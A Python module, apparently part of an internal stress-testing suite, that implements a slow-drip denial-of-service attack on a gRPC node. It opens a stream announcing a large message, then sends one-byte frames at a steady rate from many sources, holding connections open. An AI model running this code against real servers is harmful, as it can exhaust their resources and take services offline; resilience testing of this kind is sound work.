"""Sends a message in frames of one byte, at 0.8 MB/s on the wire."""

from __future__ import annotations

from collections.abc import Sequence
from contextlib import suppress

import trio

from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE, begin, data, half_of

TURN_S = 0.01
BYTES_PER_S = 800_000


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Send, and go on on a new connection if the node closes one."""
    first = PREFACE + begin(1, "PipelineForward") + data(1, half_of(90 << 20))
    piece = data(1, b"x")
    pieces = piece * int(BYTES_PER_S * TURN_S / len(piece) / len(sources))

    async def visit(stream: trio.SocketStream) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_until_closed, stream, nursery.cancel_scope)
            with suppress(trio.BrokenResourceError):
                await stream.send_all(first)
                due = trio.current_time()
                while True:
                    await stream.send_all(pieces)
                    due += TURN_S
                    await trio.sleep_until(due)

    await hold([Crowd(target.host, target.grpc_port, len(sources))], sources, visit)


async def _until_closed(stream: trio.SocketStream, connection: trio.CancelScope) -> None:
    with suppress(trio.BrokenResourceError):
        while await stream.receive_some(65536):
            pass
    connection.cancel()


ATTACK = Attack("frames of one byte at 0.8 MB/s", attack, point=8)
